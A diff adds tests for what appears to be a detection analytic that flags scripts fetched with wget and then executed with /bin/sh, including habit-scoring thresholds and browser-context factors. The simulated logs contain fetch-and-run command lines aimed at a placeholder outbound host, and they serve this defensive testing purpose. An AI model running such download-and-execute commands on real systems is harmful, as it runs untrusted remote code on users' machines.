@@ -101,6 +101,47 @@ test('a habit is that of whoever logged in, as root or not', async () => {
   );
 });
 
+/** A firefox in use five minutes before, then a script fetched at `now` and run some minutes later, once or again. */
+function fetchedAt(log: HostLog, shell: Process, now: number, script: string, runs = 1): void {
+  log.records.now = now - 5 * MINUTE;
+  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
+  log.records.now = now;
+  shell.run(`/usr/bin/wget -q http://${OUT}/${script}`).write(`/home/dev/${script}`);
+  for (let run = 0; run < runs; run++) {
+    log.wait(MINUTE);
+    shell.run(`/bin/sh ${script}`).read(`/home/dev/${script}`);
+  }
+}
+const HABIT = 'this user does so habitually';
+async function isHabit(runs: number, later: number, HabitRuns: number): Promise<boolean | undefined> {
+  const { log, shell } = browsed();
+  const { now } = log.records;
+  fetchedAt(log, shell, now, 'a.sh', runs);
+  fetchedAt(log, shell, now + later, 'b.sh');
+  const alerts = (await scanLog(log, { settings: { HabitRuns } })).filter(alert => alert.analytic === 'AN0321');
+  const second = alerts.find(alert => alert.title.endsWith('/b.sh'));
+  return second?.factors.some(factor => factor.name === HABIT);
+}
+
+test('a habit is of more than an hour before, and a script that is run twice was fetched once', async () => {
+  const hour = 60 * MINUTE;
+  assert.equal(await isHabit(1, hour, 1), false);
+  assert.equal(await isHabit(1, hour + 1, 1), true);
+  assert.equal(await isHabit(3, 2 * hour, 2), false, 'one fetch, however often it is run');
+});
+
+test('what was browsed after the fetch is not what it was pasted from', async () => {
+  const { log, shell } = browsed();
+  log.wait(60 * MINUTE);
+  shell.run(`/usr/bin/wget -q http://${OUT}/x.sh`).write('/home/dev/x.sh');
+  shell.run('/bin/sh x.sh').read('/home/dev/x.sh');
+  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
+  shell.run('/bin/sh x.sh').read('/home/dev/x.sh');
+  const [alert] = await alertsOf(log);
+  assert.equal(alert?.severity, 'informational');
+  assert.ok(!alert?.factors.some(factor => factor.name === 'a browser or messenger was used just before'));
+});
+
 test('where only programs are recorded, what wget was told to write and what is run then are one', async () => {
   const log = new HostLog({ files: false, network: false });
   log.desktop('dev').run('/usr/lib/firefox/firefox');
